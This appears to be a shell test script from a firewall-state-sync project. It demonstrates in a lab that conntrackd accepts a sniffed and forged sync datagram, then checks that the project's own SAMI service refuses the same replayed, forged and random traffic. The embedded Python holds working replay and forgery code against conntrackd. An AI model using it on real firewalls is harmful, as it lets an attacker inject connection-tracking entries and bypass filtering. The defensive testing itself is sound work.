#!/usr/bin/env bash
# Somebody on the network between two firewalls, without any key, wants a flow of his own in the standby's table. To conntrackd he sends one datagram, of
# which he has seen another: it is in the cache, and after the fail-over in the kernel. To SAMI he sends what he has seen, the same, and
# anything else: nothing is. The table in SECURITY says so; this is where it is measured.
set -uo pipefail
. "${srcdir:?}/tests/interop/attributes-lab.sh"
command -v conntrackd >/dev/null || lab_skip "conntrackd is not installed"
trap lab_stop EXIT
lab_start && sami_setup || exit 1
VICTIM=10.0.0.66
flow() { ns fw1 conntrack -I -p tcp -s $VM4 -d $CLI4 --sport 4444 --dport 22 --state ESTABLISHED -t 5000 -u SEEN_REPLY,ASSURED >/dev/null 2>&1; }
entries() { ns fw2 conntrack -L 2>/dev/null | grep -c "src=$VICTIM"; }
cached() { conntrackd_ask 2 -e 2>/dev/null | grep -q "src=$VICTIM"; }

# What the attacker sees: a datagram of the firewall's conntrackd about a flow, and then he writes another address into it.
cat >"$WORK/attacker.py" <<'PYTHON'
import ipaddress, socket, sys
verb, path = sys.argv[1:3]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
if verb == "see":
    vm = ipaddress.ip_address(sys.argv[3]).packed
    s.bind(("10.255.0.2", 3780))
    s.settimeout(60)
    print("ready", flush=True)
    data = b""
    while vm not in data:
        data = s.recv(65536)
    open(path, "wb").write(data)
else:
    data = open(path, "rb").read()
    forged = data.replace(ipaddress.ip_address(sys.argv[3]).packed, ipaddress.ip_address(sys.argv[4]).packed)
    assert forged != data
    s.bind(("10.255.0.99", 0))
    s.sendto(forged, ("10.255.0.2", 3780))
PYTHON
: >"$WORK/see.out"
ns fw2 python3 "$WORK/attacker.py" see "$WORK/datagram" $VM4 >"$WORK/see.out" 2>&1 &
SEE=$!
poll 10 grep -q ready "$WORK/see.out" || fail "the attacker sees nothing"
MODE=NOTRACK conntrackd_run 1
flow || fail "no flow"
wait $SEE || { cat "$WORK/see.out"; fail "no datagram"; }
conntrackd_ask 1 -k >/dev/null 2>&1 # the firewall has no part in what follows
MODE=NOTRACK conntrackd_run 2
ip -n "${LAB}fw1" addr add 10.255.0.99/24 dev mgmt0 || exit 1
forge() { ns fw1 python3 "$WORK/attacker.py" send "$WORK/datagram" $VM4 $VICTIM && cached; }
[ "$(entries)" -eq 0 ] || fail "it was there before"
if poll 10 forge && conntrackd_ask 2 -c >/dev/null 2>&1 && poll 10 eval '[ "$(entries)" -gt 0 ]'; then
    echo "conntrackd $(conntrackd -v 2>&1 | grep -o '[0-9]*[.][0-9]*[.][0-9]*' | head -n 1): one datagram of a stranger became an entry of the kernel:"
    ns fw2 conntrack -L 2>/dev/null | grep "src=$VICTIM"
else
    echo "conntrackd did not take the datagram: the table in SECURITY is out of date"
    conntrackd_ask 2 -e
    exit 1
fi
conntrackd_ask 2 -k >/dev/null 2>&1
poll 20 eval '[ ! -e "$WORK/conntrackd2.sock" ]' || fail "conntrackd does not end"
ns fw2 conntrack -F >/dev/null 2>&1

# The same person at SAMI's port: a recorded Message of an honest move with the address changed, the same without a change, and junk; without TLS,
# with TLS and no certificate, and with a certificate of his own.
sami_start || exit 1
flow
ctl 1 migrate --vm $VM4 --to fw2.example --now >"$WORK/out" 2>&1 || { cat "$WORK/out"; fail "no honest move"; }
journal=$(find "$WORK/journal2" -name '*.ipfix' | head -n 1)
ns fw2 conntrack -F >/dev/null 2>&1
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=fw1.example -addext subjectAltName=DNS:fw1.example \
    -keyout "$WORK/own.key" -out "$WORK/own.crt" 2>/dev/null
cat >"$WORK/outsider.py" <<'PYTHON'
import ipaddress, os, socket, ssl, sys
journal, vm, victim, certificate, key = sys.argv[1:]
seen = open(journal, "rb").read()
forged = seen.replace(ipaddress.ip_address(vm).packed, ipaddress.ip_address(victim).packed)
assert forged != seen
n = 0
for tls in (None, "bare", "own"):
    for data in (seen, forged, os.urandom(4096)):
        raw = socket.create_connection(("10.255.0.2", 4740), source_address=("10.255.0.99", 0), timeout=20)
        try:
            if tls:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                context.check_hostname = False
                context.verify_mode = ssl.CERT_NONE
                if tls == "own":
                    context.load_cert_chain(certificate, key)
                raw = context.wrap_socket(raw, server_hostname="fw2.example")
            raw.sendall(data)
            while raw.recv(65536):
                pass
        except OSError:
            pass
        n += 1
        raw.close()
print(n)
PYTHON
n=$(ns fw1 python3 "$WORK/outsider.py" "$journal" $VM4 $VICTIM "$WORK/own.crt" "$WORK/own.key") || fail "the attacker fails by himself"
turned_away() { [ "$(ctl 2 stats --json | grep -o '"refused_handshake_[a-z-]*_total" *: *[0-9]*' | awk -F: '{n += $2} END {print n}')" -eq "$n" ]; }
poll 10 turned_away || { ctl 2 stats; fail "not every one of $n was refused and counted"; }
! ns fw2 conntrack -L 2>/dev/null | grep -E "src=($VICTIM|$VM4)" || fail "it is in the table"
echo "SAMI: $n connections of the same stranger, $n refused before a Message was read"
